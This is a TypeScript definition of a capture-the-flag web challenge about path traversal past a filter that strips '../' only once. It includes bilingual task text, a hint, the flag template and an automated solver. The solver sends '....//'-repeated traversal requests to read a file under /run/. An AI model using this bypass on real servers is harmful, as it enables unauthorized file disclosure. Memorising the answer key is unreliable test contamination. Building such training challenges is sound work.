import type { DemoQuestion } from '../demo-question.ts'
import { flagIn, found } from '../read/text.ts'

export const reportDesk: DemoQuestion = {
  slug: 'attack-defense/report-desk',
  bank: 'attack-defense',
  name: { zh: '报表下载口', en: 'The Report Desk' },
  content: {
    zh: '<p>启动环境，打开它的网页：一个内部报表的下载口。开发者记得要防目录穿越，于是把文件名里的 <code>../</code> 都去掉了——去掉了一遍。</p><p>把签章备注读出来。它放在哪里，某一份报表的脚注里写着。</p>',
    en: '<p>Start the environment and open its page: a desk for internal reports. The developer remembered path traversal and takes every <code>../</code> out of a file’s name. Once.</p><p>Read the signing note. Where it is kept is said in a footnote of one of the reports.</p>',
  },
  category: 'web',
  tags: ['path-traversal', 'http', 'environment'],
  difficulty: 2,
  minutes: 25,
  points: 150,
  hints: [
    {
      price: 20,
      zh: '把 <code>../</code> 从 <code>....//</code> 中间拿掉，剩下什么？',
      en: 'Take <code>../</code> out of the middle of <code>....//</code>: what is left?',
    },
  ],
  template: 'report-desk',
  answer: { kind: 'flag', template: 'flag{once_is_not_enough_[TEAM]}' },
  solve: async ({ inside }) => {
    const { body: index } = await inside.get('/')
    const names = [...index.matchAll(/report\?name=([\w.-]+)/g)].map(([, name]) => name)
    const reports = await Promise.all(names.map((name) => inside.get(`/cgi-bin/report?name=${name}`)))
    const path = found(reports.map(({ body }) => body).join('\n'), /(\/run\/[\w/-]+)/)
    const { body } = await inside.get(`/cgi-bin/report?name=${'....//'.repeat(4)}${path.slice(1)}`)
    return flagIn(body)
  },
}
